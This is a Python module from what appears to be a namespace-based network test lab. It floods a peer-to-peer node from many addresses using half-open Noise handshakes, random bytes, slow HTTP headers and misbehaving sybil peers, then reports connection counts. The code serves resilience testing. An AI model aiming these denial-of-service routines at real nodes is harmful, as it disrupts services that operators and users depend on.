"""A flood: a process in a namespace of its own that wears a node down from several addresses.

    python3 -m netlab.flood VICTIM KIND SECONDS ADDRESS...

Kinds: `half-open` begins Noise handshakes and says no more, `garbage` sends random bytes, `slow-http` sends requests of the DHT's door
a byte at a time, `sybils` are peers that shake hands and misbehave (`sybil.py`); `knock` is none, but a stranger who wants one
connection."""
import asyncio
import collections
import json
import random
import subprocess
import sys
import time

from . import namespaces
from .node import DHT
from .sybil import HELLO, Sybil, line

P2P = 13000
# As many as a node grants to an address.
AT_ONCE = 16


class Flood:
    """The laboratory's side of it."""

    def __init__(self, attacker, victim, kind, seconds, addresses=0):
        """Without `addresses` it comes from that of the namespace's node."""
        names = namespaces.add_addresses(attacker, addresses) if addresses else [namespaces.address(attacker)]
        words = [sys.executable, "-m", "netlab.flood", namespaces.address(victim), kind, str(seconds), *names]
        self.what = {"node": victim, "kind": kind, "seconds": seconds, "addresses": addresses}
        self.process = subprocess.Popen(
            ["ip", "netns", "exec", namespaces.name(attacker), "nice", *words], stdout=subprocess.PIPE, text=True)

    def result(self):
        text = self.process.communicate()[0]
        return {**self.what, **(json.loads(text) if text else {"failed": self.process.returncode})}

    def kill(self):
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()


async def half_open(victim, port, source, counts, until):
    reader, writer = await asyncio.open_connection(victim, port, local_addr=(source, 0))
    try:
        writer.write(line(HELLO) + line("/noise"))
        held = time.monotonic()
        while time.monotonic() < until and await asyncio.wait_for(reader.read(4096), max(0.1, until - time.monotonic())):
            pass
        if time.monotonic() - held > 1:
            counts["held"] += 1
        else:
            counts["refused"] += 1
    finally:
        writer.close()


async def garbage(victim, port, source, counts, until):
    reader, writer = await asyncio.open_connection(victim, port, local_addr=(source, 0))
    try:
        writer.write(random.randbytes(65536))
        await asyncio.wait_for(reader.read(), 15)
    finally:
        writer.close()


async def slow_http(victim, port, source, counts, until):
    reader, writer = await asyncio.open_connection(victim, DHT, local_addr=(source, 0))
    try:
        writer.write(b"GET /dht/peers HTTP/1.1\r\nHost: localhost\r\nX: ")
        while time.monotonic() < until:
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(0.5)
    finally:
        writer.close()


async def sybils(victim, port, source, counts, until):
    number = random.getrandbits(64)
    # At the beacon chain's door; half of them are silent.
    await Sybil(number, number % 2 == 0, counts).run(victim, P2P, source, max(1, until - time.monotonic()))


async def knock(victim, source, until):
    """Tries again each second until a handshake succeeds."""
    began, tries = time.monotonic(), 0
    while time.monotonic() < until:
        tries += 1
        if await Sybil(tries, True, collections.Counter()).knock(victim, P2P, source):
            return {"tries": tries, "seconds_until_in": round(time.monotonic() - began, 1)}
        await asyncio.sleep(1)
    return {"tries": tries, "seconds_until_in": None}


KINDS = {"half-open": half_open, "garbage": garbage, "slow-http": slow_http, "sybils": sybils}


async def again(kind, victim, port, source, counts, until):
    """One connection after the other from an address."""
    while time.monotonic() < until:
        counts["connections"] += 1
        try:
            await kind(victim, port, source, counts, until)
        except (OSError, ValueError, asyncio.TimeoutError, asyncio.IncompleteReadError) as error:
            counts[type(error).__name__] += 1
        await asyncio.sleep(random.uniform(0.5, 1))


async def main():
    victim, kind, seconds, *addresses = sys.argv[1:]
    counts, until = collections.Counter(), time.monotonic() + float(seconds)
    ports = (P2P, DHT) if kind in ("half-open", "garbage") else (P2P,)
    if kind == "knock":
        return print(json.dumps(await knock(victim, addresses[0], until)))
    places = AT_ONCE if kind == "half-open" else AT_ONCE // 2
    await asyncio.gather(*(again(KINDS[kind], victim, port, source, counts, until)
                           for source in addresses for port in ports for _ in range(places)))
    print(json.dumps(counts))


if __name__ == "__main__":
    asyncio.run(main())
